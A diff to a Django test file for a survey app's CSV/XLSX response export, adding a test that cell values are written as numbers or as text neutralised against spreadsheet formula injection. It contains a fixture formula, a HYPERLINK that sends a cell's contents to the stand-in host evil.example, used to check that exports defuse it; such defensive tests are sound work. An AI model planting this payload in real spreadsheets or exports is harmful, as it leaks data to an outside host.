@@ -4,6 +4,7 @@ unchanged."""
 
 import csv
 import io
+from decimal import Decimal
 
 import pytest
 from django.contrib.auth.models import Group
@@ -12,11 +13,20 @@ from openpyxl import load_workbook
 from barometer.models import Indicator
 from surveys.models import Answer, Invitation, Question, Response, Round, RoundKind, Workplace, WorkplaceType
 from surveys.services.response_files import csv_lines, export_rows, import_responses, write_xlsx
-from surveys.tabular.writing import neutralise, restore
+from surveys.tabular.writing import csv_value, neutralise, restore
 from tests.builders import ResponseBuilder, innovator
 
 FACTORS = ("safe_operations", "mistakes", "internal_collaboration", "technology", "economy", "employee_involvement",
            "user_involvement", "political")  # fmt: skip
+
+
+def lazy_text(text: str):
+    """A lazily translated text (a string subclass's proxy), as forms and labels hand over."""
+    from django.utils.functional import lazy
+
+    return lazy(lambda: text, str)()
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"See report")'
 
 
@@ -42,6 +52,19 @@ def _with_description(national_round, municipality, text: str) -> Response:
 def test_neutralising_is_undone_exactly(text):
     assert restore(neutralise(text)) == text
     assert neutralise(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [("plain", "plain"), ("=1+1", "'=1+1"), ("", ""), (None, ""), (3, 3), (-2.5, -2.5),
+     (Decimal("-1.5"), Decimal("-1.5")), (True, "True"), (WorkplaceType.NURSING_HOME, "nursing_home"),
+     (RoundKind.NATIONAL, "national"), (lazy_text("-1 point"), "'-1 point")],
+)  # fmt: skip
+def test_every_kind_of_cell_value_is_written_by_the_rule(value, cell):
+    """Numbers as numbers (not ``bool``), ``None`` empty, and every other value, string
+    subclasses and lazy texts included, as text neutralised by the rule."""
+    written = csv_value(value)
+    assert written == cell and type(written) is type(cell)
 
 
 def test_raw_export_writes_a_formula_as_text_in_csv_and_xlsx(client, analyst, national_round, municipality):
